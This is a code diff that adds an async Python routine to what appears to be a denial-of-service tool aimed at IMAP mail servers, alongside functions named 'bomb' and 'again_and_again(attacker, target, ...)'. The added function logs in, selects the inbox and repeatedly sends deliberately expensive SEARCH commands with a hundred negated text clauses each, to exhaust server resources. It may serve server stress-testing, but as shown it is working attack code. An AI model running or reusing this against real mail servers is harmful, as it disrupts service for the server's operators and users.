@@ -135,6 +135,28 @@ bombs = bomb(
 )
 
 
+async def search(target, number, stop, ready):
+    """One costly search after another, each for what is in no message."""
+    reader, writer = await log_in(target, number)
+    writer.write(b"b SELECT INBOX\r\n")
+    while not (await reader.readline()).startswith(b"b "):
+        pass
+    ready()
+    while not stop.is_set():
+        writer.write(b"c SEARCH" + b"".join(b' NOT TEXT "no such %d"' % n for n in range(100)) + b" UNSEEN\r\n")
+        line = b"-"
+        while line and not line.startswith(b"c "):
+            try:
+                line = await asyncio.wait_for(reader.readline(), 0.5)
+            except TimeoutError:
+                # The answer comes whole, and the line is not begun before.
+                if stop.is_set():
+                    break
+        if not line:
+            break
+    writer.close()
+
+
 async def again_and_again(attacker, target, number, stop, ready):
     while not stop.is_set():
         try:
